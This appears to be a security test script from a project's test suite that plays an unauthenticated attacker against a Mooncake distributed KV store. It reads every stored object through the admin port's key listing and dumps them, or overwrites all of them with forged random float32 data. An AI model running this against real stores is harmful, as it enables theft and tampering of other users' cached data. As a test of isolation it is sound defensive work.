"""An attacker on the platform's host, with no token: Mooncake's own client and the
master's admin HTTP port, nothing of pdserve (issue 49). Run as a process of its own:

    python -m tests.services.security.mooncake_thief read  MASTER METADATA_URL ADMIN_URL OUT.npz
    python -m tests.services.security.mooncake_thief forge MASTER METADATA_URL ADMIN_URL SEED

`read` lists every object (`get_all_keys`) and saves each one's bytes; `forge` replaces
every object with as many bytes of plausible KV (normal float32 values) by `upsert`.
Prints the number of objects it touched.
"""
from __future__ import annotations

import sys
import urllib.request

import numpy as np


def _store(master: str, metadata: str):
    from mooncake.store import MooncakeDistributedStore
    store = MooncakeDistributedStore()
    code = store.setup("127.0.0.1", metadata, 0, 16 << 20, "tcp", "", master)
    if code != 0:
        raise SystemExit(f"Mooncake setup failed: {code}")
    return store


def _keys(admin: str) -> list[str]:
    text = urllib.request.urlopen(f"{admin}/get_all_keys", timeout=10).read().decode()
    return [k for k in text.split("\n") if k]


def main(argv: list[str]) -> None:
    mode, master, metadata, admin, arg = argv
    store = _store(master, metadata)
    keys = _keys(admin)
    if mode == "read":
        objects = {f"o{i}": np.frombuffer(store.get(k), dtype=np.uint8) for i, k in enumerate(keys)}
        np.savez(arg, names=np.array(keys), **objects)
    elif mode == "forge":
        gen = np.random.default_rng(int(arg))
        for key in keys:
            size = len(store.get(key))
            forged = gen.standard_normal(size // 4, dtype=np.float32).tobytes()
            if store.upsert(key, forged) != 0:
                raise SystemExit(f"upsert of {key} failed")
    else:
        raise SystemExit(f"unknown mode {mode!r}")
    print(len(keys))
    store.close()


if __name__ == "__main__":
    main(sys.argv[1:])
